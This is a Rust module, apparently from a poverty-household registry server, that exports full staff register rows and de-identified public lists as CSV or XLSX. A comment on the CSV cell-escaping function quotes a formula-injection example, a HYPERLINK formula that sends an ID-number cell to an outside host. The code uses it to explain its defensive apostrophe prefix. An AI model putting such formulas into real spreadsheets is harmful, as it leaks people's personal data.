//! Exports of a filtered household list: the staff's register rows (the import template's
//! columns, one row per active member, full details, only within their scope) and the public list
//! (one row per household, de-identified as the public pages are). CSV carries a UTF-8 BOM so
//! Excel opens it in Chinese; XLSX keeps ID numbers as text.
use crate::{
    model::{
        codes::*,
        id_number::mask_id,
        registry::{Household, Member},
        transfer::{Col, ExportFilter},
    },
    server::{
        db::{Db, Val, sql, sql_built},
        repo::{
            household::{
                CauseRow, HOUSEHOLD_COLUMNS, HOUSING_COLUMNS, HouseholdRow, HousingRow,
                MEMBER_COLUMNS, MemberRow, Parts,
            },
            records::Scope,
        },
    },
};
use std::collections::HashMap;

/// The households an export covers, each whole, with its village and township names.
pub struct Exported {
    pub households: Vec<Household>,
    /// Village code → (village, township) names.
    pub places: HashMap<String, (String, String)>,
}

/// The WHERE clause (over `household h JOIN region v`) for a scope and a filter, with its binds.
fn conditions(scope: &Scope, f: &ExportFilter, ids: Option<&[i64]>) -> (String, Vec<Val>) {
    let mut parts = vec!["1 = 1".to_string()];
    if let Some(ids) = ids {
        // Whole numbers only: written into the statement as they are.
        let list: Vec<String> = ids.iter().map(i64::to_string).collect();
        parts.push(format!(
            "h.id IN ({})",
            if list.is_empty() {
                "-1".into()
            } else {
                list.join(",")
            }
        ));
    }
    let mut binds = Vec::new();
    let bind = |b: Val, binds: &mut Vec<Val>| {
        binds.push(b);
        format!("${}", binds.len())
    };
    match scope {
        Scope::All => {}
        Scope::Villages { from, to } => {
            let a = bind(Val::from(from.clone()), &mut binds);
            let b = bind(Val::from(to.clone()), &mut binds);
            parts.push(format!("h.village_code BETWEEN {a} AND {b}"));
        }
        Scope::Cadre(id) => {
            let a = bind(Val::from(*id), &mut binds);
            parts.push(format!(
                "EXISTS (SELECT 1 FROM pairing p WHERE p.household_id = h.id \
                 AND p.cadre_id = {a} AND p.end_on IS NULL)"
            ));
        }
    }
    fn given(v: &Option<String>) -> Option<&str> {
        v.as_deref().map(str::trim).filter(|v| !v.is_empty())
    }
    if let Some(t) = given(&f.township) {
        let a = bind(Val::from(t.to_string()), &mut binds);
        parts.push(format!("v.parent_code = {a}"));
    }
    if let Some(v) = given(&f.village) {
        let a = bind(Val::from(v.to_string()), &mut binds);
        parts.push(format!("h.village_code = {a}"));
    }
    if let Some(s) = given(&f.status).and_then(Status::parse) {
        let a = bind(Val::from(s.as_str().to_string()), &mut binds);
        parts.push(format!("h.status = {a}"));
    }
    if let Some(q) = given(&f.q).filter(|_| ids.is_none()) {
        // A name or its beginning; pinyin or initials (as the finder reads them).
        let latin: String = q
            .chars()
            .filter(|c| !c.is_whitespace())
            .flat_map(char::to_lowercase)
            .collect();
        let (column, prefix) = if latin.chars().all(|c| c.is_ascii_alphabetic()) {
            ("name_pinyin", latin)
        } else {
            ("name", q.to_string())
        };
        let a = bind(Val::from(prefix.clone()), &mut binds);
        let b = bind(Val::from(format!("{prefix}\u{10FFFF}")), &mut binds);
        let initials = if column == "name_pinyin" {
            let c = bind(Val::from(prefix.clone()), &mut binds);
            format!(" OR q.name_initials = {c}")
        } else {
            String::new()
        };
        parts.push(format!(
            "EXISTS (SELECT 1 FROM member q WHERE q.household_id = h.id AND q.active \
             AND ((q.{column} >= {a} AND q.{column} < {b}){initials}))"
        ));
    }
    (parts.join(" AND "), binds)
}

const FROM: &str = "FROM household h JOIN region v ON v.code = h.village_code WHERE";
const PLACES: &str = "SELECT v.code, v.name, t.name FROM region v \
     JOIN region t ON t.code = v.parent_code WHERE v.level = 'village'";

/// Every household in `scope` matching `filter` (and among `ids` when given), whole (causes,
/// active members, housing), in village then household order. Four queries however many
/// households.
pub async fn households(
    db: &Db,
    scope: &Scope,
    filter: &ExportFilter,
    ids: Option<&[i64]>,
) -> Result<Exported, sqlx::Error> {
    let (cond, binds) = conditions(scope, filter, ids);
    // The statements below are built from fixed fragments and `cond`, whose values are bound.
    let mut tx = db.begin().await?; // one snapshot for the five reads
    let rows: Vec<HouseholdRow> = sql_built(format!(
        "SELECT {HOUSEHOLD_COLUMNS} {FROM} {cond} ORDER BY h.village_code, h.id"
    ))
    .bind_all(binds.clone())
    .fetch_all(&mut tx)
    .await?;
    let members: Vec<MemberRow> = sql_built(format!(
        "SELECT {MEMBER_COLUMNS} FROM member m JOIN household h ON h.id = m.household_id \
         JOIN region v ON v.code = h.village_code WHERE m.active AND {cond} \
         ORDER BY m.household_id, CASE m.relation WHEN 'head' THEN 0 ELSE 1 END, m.id"
    ))
    .bind_all(binds.clone())
    .fetch_all(&mut tx)
    .await?;
    let causes: Vec<CauseRow> = sql_built(format!(
        "SELECT c.household_id, c.cause FROM household_cause c \
         JOIN household h ON h.id = c.household_id \
         JOIN region v ON v.code = h.village_code WHERE {cond} \
         ORDER BY c.household_id, c.rank"
    ))
    .bind_all(binds.clone())
    .fetch_all(&mut tx)
    .await?;
    let housing: Vec<HousingRow> = sql_built(format!(
        "SELECT {HOUSING_COLUMNS} FROM housing s JOIN household h ON h.id = s.household_id \
         JOIN region v ON v.code = h.village_code WHERE {cond}"
    ))
    .bind_all(binds)
    .fetch_all(&mut tx)
    .await?;
    let places: Vec<(String, String, String)> = sql(PLACES).fetch_all(&mut tx).await?;
    tx.commit().await?;
    let mut members_of: HashMap<i64, Vec<MemberRow>> = HashMap::new();
    for m in members {
        members_of.entry(m.household_id).or_default().push(m);
    }
    let mut causes_of: HashMap<i64, Vec<CauseRow>> = HashMap::new();
    for c in causes {
        causes_of.entry(c.household_id).or_default().push(c);
    }
    let mut housing_of: HashMap<i64, HousingRow> =
        housing.into_iter().map(|s| (s.household_id, s)).collect();
    let mut households = Vec::with_capacity(rows.len());
    for row in rows {
        let id = row.id;
        let mut h = Parts {
            row,
            causes: causes_of.remove(&id).unwrap_or_default(),
            members: members_of.remove(&id).unwrap_or_default(),
            housing: housing_of.remove(&id),
        }
        .into_household();
        for m in &mut h.members {
            m.id = None;
        }
        households.push(h);
    }
    Ok(Exported {
        households,
        places: places
            .into_iter()
            .map(|(code, village, township)| (code, (village, township)))
            .collect(),
    })
}

/// The households the public search lists for `q` (every page of it), so a public export holds
/// exactly the list the user was looking at.
/// The households a public search finds, all pages; refused (`export_too_many`) past `limit`.
pub async fn search_ids(
    db: &Db,
    q: &str,
    limit: usize,
) -> Result<Vec<i64>, crate::error::AppError> {
    use crate::model::{normalize_query, search::SearchTerm};
    let Some(q) = normalize_query(q)? else {
        return Ok(Vec::new());
    };
    let term = SearchTerm::parse(&q)?;
    let mut ids = Vec::new();
    let mut page = 1;
    loop {
        let res = crate::server::repo::search::search(db, &term, page).await?;
        ids.extend(res.households.iter().map(|h| h.id));
        if ids.len() > limit {
            return Err(crate::error::AppError::invalid("export_too_many"));
        }
        if page >= res.pages {
            break;
        }
        page += 1;
    }
    Ok(ids)
}

fn yes_no(b: bool) -> String {
    if b { "是" } else { "否" }.to_string()
}

fn date(d: Option<chrono::NaiveDate>) -> String {
    d.map(|d| d.format("%Y-%m-%d").to_string())
        .unwrap_or_default()
}

/// One cell of the register template for member `m` of household `h`.
pub fn register_cell(h: &Household, m: &Member, col: Col, place: (&str, &str)) -> String {
    let hs = h.housing.as_ref();
    match col {
        Col::Township => place.1.to_string(),
        Col::Village => place.0.to_string(),
        Col::VillageCode => h.village_code.clone(),
        Col::GroupNo => h.group_no.map(|g| g.to_string()).unwrap_or_default(),
        Col::HeadId => h
            .head()
            .and_then(|m| m.id_number.clone())
            .unwrap_or_default(),
        Col::Address => h.address.clone(),
        Col::Phone => h.phone.clone().unwrap_or_default(),
        Col::Standard => h.standard.zh().into(),
        Col::Attribute => h.attribute.zh().into(),
        Col::MainCause => h.causes.first().map(|c| c.zh()).unwrap_or_default().into(),
        Col::OtherCauses => h
            .causes
            .iter()
            .skip(1)
            .map(|c| c.zh())
            .collect::<Vec<_>>()
            .join("、"),
        Col::IdentifiedOn => date(Some(h.identified_on)),
        Col::Status => h.status.zh().into(),
        Col::ExitedOn => date(h.exited_on),
        Col::RelapsedOn => date(h.relapsed_on),
        Col::Name => m.name.clone(),
        Col::Sex => m.sex.zh().into(),
        Col::IdNumber => m.id_number.clone().unwrap_or_default(),
        Col::DisabilityCert => m.disability_cert.clone().unwrap_or_default(),
        Col::BirthDate => date(Some(m.birth_date)),
        Col::Relation => m.relation.zh().into(),
        Col::Ethnicity => m.ethnicity.clone(),
        Col::Education => m.education.zh().into(),
        Col::StudentStatus => m.student_status.zh().into(),
        Col::Health => m.health.zh().into(),
        Col::Labour => m.labour.zh().into(),
        Col::MigrantMonths => m.migrant_months.to_string(),
        Col::MedicalInsured => yes_no(m.medical_insured),
        Col::PensionInsured => yes_no(m.pension_insured),
        Col::HasElectricity => yes_no(h.has_electricity),
        Col::HasSafeWater => yes_no(h.has_safe_water),
        Col::HasRoadAccess => yes_no(h.has_road_access),
        Col::Structure => hs.map(|s| s.structure.zh().to_string()).unwrap_or_default(),
        Col::AreaM2 => hs.map(|s| s.area_m2.to_string()).unwrap_or_default(),
        Col::BuiltYear => hs
            .and_then(|s| s.built_year)
            .map(|y| y.to_string())
            .unwrap_or_default(),
        Col::DangerGrade => hs
            .and_then(|s| s.danger_grade)
            .map(|g| g.zh().to_string())
            .unwrap_or_default(),
        Col::RenovatedOn => date(hs.and_then(|s| s.renovated_on)),
        Col::Relocated => hs.map(|s| yes_no(s.relocated)).unwrap_or_default(),
        Col::RelocatedOn => date(hs.and_then(|s| s.relocated_on)),
    }
}

/// A sheet to write: header and rows of text.
pub struct Sheet {
    pub header: Vec<String>,
    pub rows: Vec<Vec<String>>,
}

/// The register rows (template columns, one row per active member) of an export.
pub fn register_sheet(e: &Exported) -> Sheet {
    let mut rows = Vec::new();
    for h in &e.households {
        let place = e
            .places
            .get(&h.village_code)
            .map(|(v, t)| (v.as_str(), t.as_str()))
            .unwrap_or(("", ""));
        for m in h.members.iter().filter(|m| m.active) {
            rows.push(
                Col::ALL
                    .iter()
                    .map(|&c| register_cell(h, m, c, place))
                    .collect(),
            );
        }
    }
    Sheet {
        header: Col::ALL.iter().map(|c| c.zh().to_string()).collect(),
        rows,
    }
}

/// The public list: one row per household, only what the public pages show (ID masked; no
/// phone, address, health or bank details).
pub fn public_sheet(e: &Exported) -> Sheet {
    let header = [
        "乡镇",
        "行政村",
        "村民小组",
        "户主姓名",
        "户主身份证号",
        "家庭人口",
        "贫困户属性",
        "主要致贫原因",
        "脱贫状态",
        "识别年份",
        "脱贫年份",
    ];
    let year = |d: Option<chrono::NaiveDate>| {
        d.map(|d| chrono::Datelike::year(&d).to_string())
            .unwrap_or_default()
    };
    let rows = e
        .households
        .iter()
        .map(|h| {
            let (village, township) = e.places.get(&h.village_code).cloned().unwrap_or_default();
            let head = h.head();
            vec![
                township,
                village,
                h.group_no.map(|g| g.to_string()).unwrap_or_default(),
                head.map(|m| m.name.clone()).unwrap_or_default(),
                head.and_then(|m| m.id_number.as_deref())
                    .map(mask_id)
                    .unwrap_or_default(),
                h.members.iter().filter(|m| m.active).count().to_string(),
                h.attribute.zh().into(),
                h.causes.first().map(|c| c.zh()).unwrap_or_default().into(),
                h.status.zh().into(),
                year(Some(h.identified_on)),
                year(h.exited_on),
            ]
        })
        .collect();
    Sheet {
        header: header.iter().map(|s| s.to_string()).collect(),
        rows,
    }
}

/// CSV in UTF-8 with a BOM (so Excel reads it as UTF-8).
/// A CSV cell a spreadsheet will not run: a text starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return would be taken as a formula (`=HYPERLINK("http://…?d="&E2, …)` sends the ID
/// in E2 away), so it gets a leading apostrophe, which Excel and WPS show as plain text. Numbers
/// (`-5`, `+86…`) stay as they are. The import reader drops that apostrophe again, so an exported
/// file re-imports unchanged.
pub fn inert_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && cell.parse::<f64>().is_err() {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

pub fn to_csv(sheet: &Sheet) -> Vec<u8> {
    let mut out = b"\xEF\xBB\xBF".to_vec();
    {
        let mut w = csv::Writer::from_writer(&mut out);
        let _ = w.write_record(&sheet.header);
        for r in &sheet.rows {
            let cells: Vec<_> = r.iter().map(|c| inert_cell(c)).collect();
            let _ = w.write_record(cells.iter().map(|c| c.as_bytes()));
        }
        let _ = w.flush();
    }
    out
}

/// XLSX, every cell text (ID numbers stay exact), a bold frozen header, and — for the template —
/// a drop-down list on each enumerated column and a second sheet describing every column.
pub fn to_xlsx(sheet: &Sheet, template: bool) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    use rust_xlsxwriter::{DataValidation, Format, Workbook};
    let mut book = Workbook::new();
    let bold = Format::new().set_bold();
    let text = Format::new().set_num_format("@");
    {
        // Rows are written in order: stream them (inline strings, no shared-string table).
        let ws = book.add_worksheet_with_constant_memory()?;
        ws.set_name(if template {
            "建档立卡"
        } else {
            "贫困户"
        })?;
        for (c, h) in sheet.header.iter().enumerate() {
            let c = c as u16;
            ws.write_string_with_format(0, c, h, &bold)?;
            ws.set_column_width(c, (h.chars().count() as f64 * 2.2).max(10.0))?;
            ws.set_column_format(c, &text)?;
        }
        ws.set_freeze_panes(1, 0)?;
        for (r, row) in sheet.rows.iter().enumerate() {
            for (c, v) in row.iter().enumerate() {
                if !v.is_empty() {
                    ws.write_string((r + 1) as u32, c as u16, v)?;
                }
            }
        }
        if template {
            for (c, col) in Col::ALL.iter().enumerate() {
                let allowed: Vec<&str> = col.allowed().iter().map(|a| a.0).collect();
                if !allowed.is_empty() && col.kind() == crate::model::transfer::Kind::Choice
                    || col.kind() == crate::model::transfer::Kind::YesNo
                {
                    let dv = DataValidation::new().allow_list_strings(&allowed)?;
                    ws.add_data_validation(1, c as u16, 100_000, c as u16, &dv)?;
                }
            }
        }
    }
    if template {
        let ws = book.add_worksheet();
        ws.set_name("填写说明")?;
        for (c, h) in ["列名", "英文列名", "必填", "可填写的值"]
            .iter()
            .enumerate()
        {
            ws.write_string_with_format(0, c as u16, *h, &bold)?;
        }
        for (r, col) in Col::ALL.iter().enumerate() {
            let r = (r + 1) as u32;
            ws.write_string(r, 0, col.zh())?;
            ws.write_string(r, 1, col.en())?;
            ws.write_string(r, 2, if col.required() { "是" } else { "" })?;
            ws.write_string(r, 3, &col.note(false))?;
        }
        ws.set_column_width(0, 22)?;
        ws.set_column_width(1, 24)?;
        ws.set_column_width(3, 90)?;
    }
    book.save_to_buffer()
}
